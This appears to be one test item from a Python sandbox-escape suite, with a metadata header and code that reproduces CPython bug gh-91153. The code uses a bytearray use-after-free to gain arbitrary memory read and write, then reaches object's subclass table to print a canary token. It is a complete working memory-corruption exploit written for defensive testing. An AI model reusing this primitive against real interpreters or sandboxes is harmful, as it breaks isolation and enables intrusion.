# id: bytearray-setitem-index
# family: memory-safety
# kind: escape
# invariant: A, G
# origin: CPython report gh-91153
# technique: item assignment keeps the buffer's address over a call of __index__; freed and refilled, it is another bytearray's header
# needs: 64-bit
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: specific
# alive-when: canary

victim = None


class Value:
    def __index__(self):
        global victim
        buffer.clear()
        victim = bytearray()  # its header takes the place of the old buffer
        buffer.extend(bytes(56))
        return 0x40


# The write goes to the old place: the top of the victim's size, which then spans all of memory.
buffer = bytearray(56)
buffer[22] = Value()

box = [None]
items = int.from_bytes(victim[id(box) + 24 : id(box) + 32], "little")
kept = victim[items : items + 8]
# the subclass table of object, a static type
victim[items : items + 8] = victim[id(object) + 360 : id(object) + 368]
table = box[0]
found = [c for c in [r() for r in dict.values(table)] if c is not None and c.__name__ == "PadcellCanary"]
print([c.token for c in found])
victim[items : items + 8] = kept
del table
